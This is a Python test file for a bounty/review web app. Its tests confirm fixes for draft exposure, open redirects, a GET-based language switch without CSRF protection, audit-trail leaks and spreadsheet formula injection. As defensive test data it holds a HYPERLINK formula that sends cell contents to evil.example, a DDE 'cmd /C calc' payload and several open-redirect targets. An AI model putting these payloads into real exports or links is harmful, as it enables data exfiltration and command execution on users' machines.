"""Small leaks closed: drafts behind the conflicts page, off-site redirects after a bulk
action, a language switch by GET, registry events in a losing bidder's audit trail, and
spreadsheet formulas in the review export."""

from __future__ import annotations

import csv
import io

import sqlalchemy as sa
from openpyxl import load_workbook

from bounty.challenges.models import ChallengeState
from bounty.extensions import db
from bounty.market.services import create_listing
from bounty.review.assignment import ReviewTask, sync_tasks
from bounty.review.decisions import decide
from bounty.review.models import Outcome, StageKey

from ..factories import create_bid, create_challenge, create_user
from ..registry.helpers import completed_challenge, listing_data, pdf_upload
from .conftest import award_challenge

TITLE_ATTACK = '=HYPERLINK("http://evil.example/?x="&B2,"附件")'
COMMENT_ATTACK = "=cmd|' /C calc'!A0"


def test_a_reviewer_walking_ids_sees_no_draft_on_the_conflicts_page(app, sign_in):
    draft = create_challenge(state=ChallengeState.draft, title="尚未提交的草稿")
    reviewer = sign_in(create_user("reviewer"))
    response = reviewer.get(f"/review/items/challenge/{draft.id}/conflicts")
    assert response.status_code == 404
    assert "尚未提交的草稿" not in response.get_data(as_text=True)
    submitted = create_challenge(state=ChallengeState.vetting, title="审题中的榜单")
    assert reviewer.get(f"/review/items/challenge/{submitted.id}/conflicts").status_code == 200


def test_a_bulk_action_never_redirects_off_site(app, sign_in):
    challenge = create_challenge(state=ChallengeState.vetting)
    sync_tasks()
    task = db.session.execute(sa.select(ReviewTask).where(
        ReviewTask.challenge_id == challenge.id)).scalars().first()
    lead = create_user("reviewer", is_lead_reviewer=True)
    client = sign_in(lead)
    for target in ("//evil.example", "https://evil.example/x", "/\\evil.example",
                   "/\t/evil.example"):
        response = client.post("/review/tasks/bulk", data={
            "task": [str(task.id)], "action": "assign", "assignee": lead.id, "next": target})
        assert response.status_code == 302
        assert response.headers["Location"] == "/review/tasks", target
    response = client.post("/review/tasks/bulk", data={
        "task": [str(task.id)], "action": "assign", "assignee": lead.id,
        "next": "/review/tasks?view=mine"})
    assert response.headers["Location"] == "/review/tasks?view=mine"


def test_the_language_switch_is_a_post_with_a_token(csrf_app, login_as):
    user = create_user("enterprise")
    csrf_app.config["WTF_CSRF_ENABLED"] = False
    client = login_as(user)
    csrf_app.config["WTF_CSRF_ENABLED"] = True
    assert client.get("/lang/en").status_code == 405
    assert client.post("/lang/en").status_code == 400  # no CSRF token
    db.session.expire_all()
    assert user.locale == "zh_CN"
    html = client.get("/").get_data(as_text=True)
    assert 'action="/lang/en"' in html and 'name="csrf_token"' in html


def test_a_losing_bidder_does_not_see_the_winners_registry_events(app, sign_in):
    challenge, owner, winner = completed_challenge()
    loser = create_user("institute")
    create_bid(challenge, loser, title="落选方案")
    create_listing(challenge, winner, listing_data(), [pdf_upload()])

    def trail(user):
        return sign_in(user).get(f"/challenges/{challenge.id}/audit").get_data(as_text=True)

    assert "申请挂牌" not in trail(loser)
    seen_by_winner = trail(winner)
    assert "申请挂牌" in seen_by_winner and "提交审题" not in seen_by_winner
    assert "申请挂牌" in trail(owner)
    assert "申请挂牌" in trail(create_user("reviewer"))


def test_registry_events_have_their_own_translated_labels(app, sign_in):
    challenge, owner, winner = completed_challenge()
    from bounty.certification.services import apply_for_certification

    from ..registry.helpers import cert_data, evidence_files

    apply_for_certification(challenge, owner, cert_data(), evidence_files())
    owner.locale = "en"
    db.session.commit()
    html = sign_in(owner).get(f"/challenges/{challenge.id}/audit").get_data(as_text=True)
    assert ">apply<" not in html
    assert "Apply for first-set certification" in html


def test_the_review_export_runs_no_formula(app, sign_in):
    challenge, _owner, _bids = award_challenge(title=TITLE_ATTACK)
    reviewer = create_user("reviewer")
    decide(challenge, reviewer, Outcome.return_, COMMENT_ATTACK, stage=StageKey.award)
    client = sign_in(create_user("reviewer"))
    xlsx = client.get("/review/export?stage=award&format=xlsx")
    sheet = load_workbook(io.BytesIO(xlsx.data)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    values = [c.value for c in cells]
    assert "'" + TITLE_ATTACK in values and "'" + COMMENT_ATTACK in values
    data = client.get("/review/export?stage=award&format=csv").data.decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(data)))[1]
    assert "'" + TITLE_ATTACK in row and "'" + COMMENT_ATTACK in row


def test_export_dates_out_of_range_are_a_field_message(app, sign_in):
    client = sign_in(create_user("reviewer"))
    for start, end in (("0001-01-01", ""), ("", "9999-12-31")):
        response = client.get(f"/review/export?start={start}&end={end}&format=csv")
        assert response.status_code == 422
        assert "日期须在 2000-01-01 至 2099-12-31 之间" in response.get_data(as_text=True)
